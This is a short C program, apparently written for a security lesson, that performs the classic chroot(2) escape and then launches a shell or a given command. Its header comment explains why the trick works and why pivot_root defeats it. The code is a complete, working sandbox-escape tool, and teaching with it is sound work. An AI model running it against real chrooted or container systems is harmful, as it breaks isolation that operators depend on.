/*
 * chroot-escape: the classic way out of a chroot(2), for lesson 2.
 *
 *   chroot-escape [COMMAND [ARG...]]     (default: /bin/sh)
 *
 * chroot() changes where "/" is for path lookup, but NOT the working directory. So:
 *   1. chroot into a subdirectory while our working directory stays where it is — now the
 *      working directory is *outside* our root, and ".." from it is never stopped at "/";
 *   2. chdir("..") many times: we climb to the real root of the mount namespace;
 *   3. chroot(".") there: our "/" is now the real one.
 * It needs CAP_SYS_CHROOT (in docker's default set!). After pivot_root + unmounting the old
 * root, the real root of the container's mount namespace IS the container's root, so the same
 * climb ends where it started — that is why runtimes use pivot_root.
 */
#include <errno.h>
#include <stdio.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

int main(int argc, char **argv) {
    const char *hole = "/.mr-chroot-escape";
    if (mkdir(hole, 0700) != 0 && errno != EEXIST) {
        fprintf(stderr, "chroot-escape: mkdir %s: %s\n", hole, strerror(errno));
        return 1;
    }
    if (chroot(hole) != 0) { /* cwd stays outside the new root */
        fprintf(stderr, "chroot-escape: chroot: %s\n", strerror(errno));
        return 1;
    }
    for (int i = 0; i < 256; i++) {
        if (chdir("..") != 0) break;
    }
    if (chroot(".") != 0) {
        fprintf(stderr, "chroot-escape: chroot(.): %s\n", strerror(errno));
        return 1;
    }
    if (argc > 1) {
        execvp(argv[1], argv + 1);
        fprintf(stderr, "chroot-escape: %s: %s\n", argv[1], strerror(errno));
        return 127;
    }
    char *sh[] = {"/bin/sh", NULL};
    execv(sh[0], sh);
    fprintf(stderr, "chroot-escape: /bin/sh: %s\n", strerror(errno));
    return 127;
}
